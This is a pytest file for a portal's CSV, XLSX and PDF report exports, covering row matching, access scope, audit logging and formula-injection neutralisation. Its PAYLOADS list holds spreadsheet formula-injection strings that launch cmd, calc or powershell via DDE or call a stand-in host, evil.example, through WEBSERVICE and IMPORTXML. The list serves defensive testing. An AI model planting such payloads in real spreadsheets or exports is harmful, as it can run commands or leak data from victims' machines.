"""Reports over HTTP, on SQLite and PostgreSQL: CSV, XLSX and PDF hold exactly the rows of
the JSON list with the same filters, each readable by its own reader (csv, openpyxl,
pypdf); nothing outside the caller's reach; no cell a spreadsheet would run; zero rows are
a valid file; the PDF's row limit; the audit log."""

from __future__ import annotations

import asyncio
import csv
import io
import random
from datetime import date, datetime
from typing import Any

import openpyxl
import pypdf
import pytest

from app.domain.access import Scope
from app.domain.audit import AuditFilter
from app.domain.cabinets import Cabinet, CabinetKind
from app.domain.licensing import DocumentKind
from app.domain.paging import PageRequest
from app.domain.roles import Role
from app.domain.users import SYSTEM
from app.web.app import create_app
from app.web.keys import SERVICES
from tests.world import ClientFactory, SettingsFor, World, build_world, unique

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# OWASP's formula starters, in the shapes attackers send them (ASVS 5.0 1.2.10).
PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1",
    "+cmd|' /C notepad'!A0", "-2+3", "-cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1", "\t=1+1", "\r=1+1", "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "=WEBSERVICE(\"http://evil.example\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "+A1*2",
    "-A1", "@WEBSERVICE(\"http://evil.example\")", "=2*3", "+\"text\"",
    "=cmd|'/c powershell'!'A1'", "\t+1", "\r@SUM(A1)", "=1;=2", "=\"a\"&\"b\"",
]
STARTERS = ("=", "+", "-", "@", "\t", "\r", "\x00")


async def json_rows(world: World, path: str, headers: dict[str, str]) -> list[dict[str, Any]]:
    found, cursor = [], None
    while True:
        joiner = "&" if "?" in path else "?"
        url = f"{path}{joiner}limit=200" + (f"&cursor={cursor}" if cursor else "")
        page = await (await world.client.get(url, headers=headers)).json()
        found += page["items"]
        cursor = page["next_cursor"]
        if cursor is None:
            return found


async def report(world: World, path: str, fmt: str, role: Role = Role.CUSTOMER_ADMIN,
                 **params: str) -> bytes:
    query = "&".join([f"format={fmt}", *(f"{k}={v}" for k, v in params.items())])
    joiner = "&" if "?" in path else "?"
    response = await world.client.get(f"{path}{joiner}{query}",
                                      headers=world.actors[role].headers)
    assert response.status == 200, await response.text()
    assert response.headers["Content-Disposition"].startswith("attachment;")
    return await response.read()


def csv_rows(data: bytes) -> list[list[str]]:
    assert not data.startswith(b"\xef\xbb\xbf")  # no BOM
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


async def holdings(world: World) -> None:
    """Licenses and certificates in the customers' cabinet, its child and a foreign one."""
    for cabinet in (world.own, world.child, world.child, world.foreign):
        license_ = await world.add_document(DocumentKind.LICENSE, cabinet)
        await world.add_document(DocumentKind.CERTIFICATE, cabinet, license_id=license_.id)
    await world.add_document(DocumentKind.LICENSE, world.own, valid_to=None)  # perpetual


async def test_csv_holds_exactly_the_rows_of_the_json_list(world: World) -> None:
    await holdings(world)
    headers = world.actors[Role.CUSTOMER_ADMIN].headers
    for plural in ("licenses", "certificates"):
        listed = await json_rows(world, f"/api/v1/{plural}", headers)
        rows = csv_rows(await report(world, f"/api/v1/{plural}", "csv"))
        assert rows[0][0] == "Number" and len(rows[0]) == 9
        assert [r[0] for r in rows[1:]] == [item["number"] for item in listed]
        holders = {world.own.name, world.child.name}
        assert {r[3 if plural == "certificates" else 4] for r in rows[1:]} == holders
        for row, item in zip(rows[1:], listed, strict=True):
            valid_to = row[6 if plural == "licenses" else 5]
            assert valid_to == (item["valid_to"] or "")
    certificates = csv_rows(await report(world, "/api/v1/certificates", "csv"))
    licenses = {r[0] for r in csv_rows(await report(world, "/api/v1/licenses", "csv"))[1:]}
    assert {r[8] for r in certificates[1:]} <= licenses  # "covers license": its number

    own_only = csv_rows(await report(world, "/api/v1/licenses", "csv",
                                     include_children="false"))
    assert {r[4] for r in own_only[1:]} == {world.own.name} and len(own_only) == 3
    listed = await json_rows(world, "/api/v1/licenses?include_children=false", headers)
    assert [item["number"] for item in listed] == [r[0] for r in own_only[1:]]
    filtered = csv_rows(await report(world, "/api/v1/licenses", "csv",
                                     expires_before="2100-01-01"))
    assert len(filtered) == 1 + 3  # the perpetual one ends never


async def test_xlsx_opens_with_the_same_rows_real_dates_and_a_summary(world: World) -> None:
    await holdings(world)
    data = await report(world, "/api/v1/licenses", "xlsx")
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Summary", "Licenses"]
    sheet = book["Licenses"]
    values = list(sheet.iter_rows(values_only=True))
    expected = csv_rows(await report(world, "/api/v1/licenses", "csv"))
    assert list(values[0]) == expected[0]
    assert [row[0] for row in values[1:]] == [row[0] for row in expected[1:]]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref.startswith("A1:I")
    assert sheet["A1"].font.bold
    dated = [row for row in values[1:] if row[6] is not None]
    assert dated and all(isinstance(row[5], datetime) and isinstance(row[6], datetime)
                         for row in dated)
    assert all(isinstance(row[3], int) for row in values[1:])
    summary = {row[0]: row[1] for row in book["Summary"].iter_rows(values_only=True)}
    assert summary["Rows"] == len(values) - 1 and summary["Active"] == len(values) - 1


async def test_pdf_holds_the_rows_with_the_header_on_every_page(world: World) -> None:
    for _ in range(70):
        await world.add_document(DocumentKind.LICENSE, world.own)
    data = await report(world, "/api/v1/licenses", "pdf")
    pdf = pypdf.PdfReader(io.BytesIO(data))
    pages = [page.extract_text() for page in pdf.pages]
    assert len(pages) >= 2
    for number, text in enumerate(pages, 1):
        assert "NUMBER" in text and "HOLDER" in text, number
        assert f"Page {number} of {len(pages)}" in text
    listed = await json_rows(world, "/api/v1/licenses",
                             world.actors[Role.CUSTOMER_ADMIN].headers)
    everything = "\n".join(pages)
    assert all(item["number"] in everything for item in listed)
    assert "Ending by month" in pages[0] and world.own.name in pages[0]


async def test_zero_rows_make_a_valid_file_of_each_format(world: World) -> None:
    for plural in ("licenses", "certificates", "issues"):
        empty = "revoked" if plural != "issues" else "on_hold"
        rows = csv_rows(await report(world, f"/api/v1/{plural}", "csv", status=empty))
        assert len(rows) == 1 and rows[0][0] == "Number"
        book = openpyxl.load_workbook(io.BytesIO(
            await report(world, f"/api/v1/{plural}", "xlsx", status=empty)))
        assert len(list(book.worksheets[1].iter_rows(values_only=True))) == 1
        text = pypdf.PdfReader(io.BytesIO(
            await report(world, f"/api/v1/{plural}", "pdf", status=empty))).pages[0]\
            .extract_text()
        assert "No rows match these filters." in text


async def test_no_cell_starts_a_formula_in_csv_or_xlsx(world: World) -> None:
    await world.add_document(DocumentKind.CERTIFICATE, world.own)
    customer = world.actors[Role.CUSTOMER_USER].headers
    for payload in PAYLOADS:
        made = await world.client.post("/api/v1/issues", headers=customer, json={
            "subject": payload, "description": "x", "product_id": world.product.id})
        assert made.status == 201, await made.text()
    rows = csv_rows(await report(world, "/api/v1/issues", "csv", role=Role.CUSTOMER_USER))
    subjects = [row[1] for row in rows[1:]]
    # The subject is cleaned of surrounding spaces first (the API's rule), then quoted.
    assert sorted(subjects) == sorted("'" + " ".join(p.split()) if " ".join(p.split())
                                      .startswith(STARTERS) else " ".join(p.split())
                                      for p in PAYLOADS)
    for row in rows:
        assert not any(cell.startswith(STARTERS) for cell in row), row
    book = openpyxl.load_workbook(io.BytesIO(
        await report(world, "/api/v1/issues", "xlsx", role=Role.CUSTOMER_USER)))
    for sheet in book.worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type != "f", cell.value
                assert not (isinstance(cell.value, str) and cell.value.startswith(STARTERS))


async def test_a_pdf_over_the_row_limit_points_to_csv_and_xlsx(
        aiohttp_client: ClientFactory, settings_for: SettingsFor) -> None:
    app = create_app(settings_for("sqlite", PORTAL_REPORTS__PDF_ROW_LIMIT="3"))
    world = await build_world(await aiohttp_client(app))
    for _ in range(4):
        await world.add_document(DocumentKind.LICENSE, world.own)
    response = await world.client.get("/api/v1/licenses?format=pdf",
                                      headers=world.actors[Role.CUSTOMER_ADMIN].headers)
    assert response.status == 422
    problem = await response.json()
    assert "at most 3 rows" in problem["detail"] and "CSV or XLSX" in problem["detail"]
    assert len(csv_rows(await report(world, "/api/v1/licenses", "csv"))) == 5


async def test_a_customer_never_gets_another_customers_report(world: World) -> None:
    await holdings(world)
    for plural in ("licenses", "certificates", "issues"):
        for fmt in ("csv", "xlsx", "pdf"):
            for role in (Role.CUSTOMER_ADMIN, Role.CUSTOMER_USER):
                refused = await world.client.get(
                    f"/api/v1/{plural}?format={fmt}&cabinet_id={world.foreign.id}",
                    headers=world.actors[role].headers)
                assert refused.status == 404, (plural, fmt, role)
                assert refused.content_type == "application/problem+json"
            staff = await report(world, f"/api/v1/{plural}", fmt, role=Role.STAFF,
                                 cabinet_id=world.foreign.id)
            assert staff
    foreign = csv_rows(await report(world, "/api/v1/licenses", "csv", role=Role.STAFF,
                                    cabinet_id=world.foreign.id))
    assert {row[4] for row in foreign[1:]} == {world.foreign.name}


@pytest.mark.parametrize("seed", [7, 2026])
async def test_no_report_holds_a_row_outside_the_callers_reach(world: World,
                                                               seed: int) -> None:
    """A generated tree of customers, documents everywhere, an administrator at a random
    place: every row of every report is of their organisation or one below it."""
    chance = random.Random(seed)
    services = world.client.app[SERVICES]
    nodes: list[Cabinet] = [world.parent]
    for _ in range(9):
        parent = chance.choice(nodes)
        nodes.append(await services.cabinets.create(SYSTEM, unique("org"),
                                                     CabinetKind.CUSTOMER, parent.id))
    for cabinet in nodes:
        for _ in range(chance.randint(0, 2)):
            await world.add_document(DocumentKind.LICENSE, cabinet)
    place = chance.choice(nodes[1:])
    headers = await world.signed_in(place, Role.CUSTOMER_ADMIN)
    async with services.storage.unit_of_work() as uow:
        reach = {c.name for c in await uow.cabinets.list_visible(Scope.subtree(place.path),
                                                                 PageRequest(200))}
    rows = csv_rows(await (await world.client.get("/api/v1/licenses?format=csv",
                                                   headers=headers)).read())
    holders = {row[4] for row in rows[1:]}
    assert holders <= reach
    expected = await json_rows(world, "/api/v1/licenses", headers)
    assert [row[0] for row in rows[1:]] == [item["number"] for item in expected]


async def test_each_report_download_is_audited(world: World) -> None:
    await holdings(world)
    await report(world, "/api/v1/licenses", "csv", status="active")
    services = world.client.app[SERVICES]
    entries, after = [], None
    async with services.storage.unit_of_work() as uow:
        while page := await uow.audit.list_visible(Scope.subtree(world.own.path),
                                                   PageRequest(200, after),
                                                   AuditFilter(action="report.downloaded")):
            entries += page
            after = page[-1].id
    [entry] = [e for e in entries if e.actor_email == world.actors[Role.CUSTOMER_ADMIN].email]
    assert entry.details["format"] == "csv" and entry.details["rows"] == 4
    assert entry.details["filters"]["status"] == "active"
    assert entry.details["organisation"] == world.own.name and entry.cabinet_id == world.own.id


async def test_accept_chooses_a_report_and_json_stays_the_list(world: World) -> None:
    await holdings(world)
    headers = world.actors[Role.CUSTOMER_ADMIN].headers
    by_accept = await world.client.get("/api/v1/licenses",
                                       headers={**headers, "Accept": "text/csv"})
    assert by_accept.content_type == "text/csv"
    assert (await by_accept.text()).startswith("Number,Product,")
    by_xlsx = await world.client.get("/api/v1/licenses", headers={**headers, "Accept": XLSX})
    assert by_xlsx.content_type == XLSX
    both = await world.client.get("/api/v1/licenses",
                                  headers={**headers, "Accept": "application/json, text/csv"})
    assert both.content_type == "application/json" and "items" in await both.json()
    assert by_accept.headers["Vary"] == "Accept"
    wrong = await world.client.get("/api/v1/licenses?format=docx", headers=headers)
    assert wrong.status == 400
    dated = by_accept.headers["Content-Disposition"]
    assert f"licenses-{world.own.name.lower()}-{date.today().isoformat()}.csv" in dated


async def test_the_reports_page_draws_the_reach_it_is_given(world: World) -> None:
    from tests.api.test_pages import sign_in

    await holdings(world)
    await sign_in(world.client, world.actors[Role.CUSTOMER_ADMIN].email)
    page = await (await world.client.get("/reports")).text()
    assert page.count('<figure class="chart">') == 5
    assert 'aria-label="Licenses by product: DB Guard 4"' in page  # drawn on the server
    assert "/api/v1/licenses?format=csv&amp;include_children=true" in page
    assert "<strong>4</strong> rows" in page  # own and child licenses, not the foreign one
    own = await (await world.client.get(f"/reports?sent=1&cabinet={world.own.id}")).text()
    assert "<strong>2</strong> rows" in own and "include_children=false" in own
    refused = await world.client.get(f"/reports?cabinet={world.foreign.id}")
    assert refused.status == 404
    world.client.session.cookie_jar.clear()
    await sign_in(world.client, world.actors[Role.STAFF].email)
    foreign = await (await world.client.get(f"/reports?cabinet={world.foreign.id}")).text()
    assert world.foreign.name in foreign and "<strong>1</strong> rows" not in foreign


@pytest.mark.postgres
async def test_two_processes_send_each_periods_report_once(
        aiohttp_client: ClientFactory, settings_for: SettingsFor) -> None:
    from app.domain.reports import ReportFormat, ReportKind
    from app.domain.subscriptions import Cadence
    from app.domain.users import Principal
    from app.services.subscriptions import SubscriptionDraft

    first = await build_world(await aiohttp_client(create_app(settings_for("postgres"))))
    second = await aiohttp_client(create_app(settings_for("postgres")))
    actor = first.actors[Role.CUSTOMER_ADMIN]
    admin = Principal(actor.user_id, actor.email, Role.CUSTOMER_ADMIN, actor.cabinet.id,
                      actor.cabinet.path)
    made = [await first.client.app[SERVICES].subscriptions.subscribe(admin, SubscriptionDraft(
        ReportKind.LICENSES, ReportFormat.CSV, cadence)) for cadence in Cadence]
    for _ in range(3):
        counts = await asyncio.gather(first.client.app[SERVICES].subscriptions.send_due(),
                                      second.app[SERVICES].subscriptions.send_due())
    async with first.client.app[SERVICES].storage.unit_of_work() as uow:
        sent = [m for m in await uow.outbox.list_recent(200, recipient=actor.email)
                if m.subject.startswith("Your ")]
    assert len(sent) == 2 and len(made) == 2
    assert list(counts) == [0, 0]  # the last rounds found nothing left to send
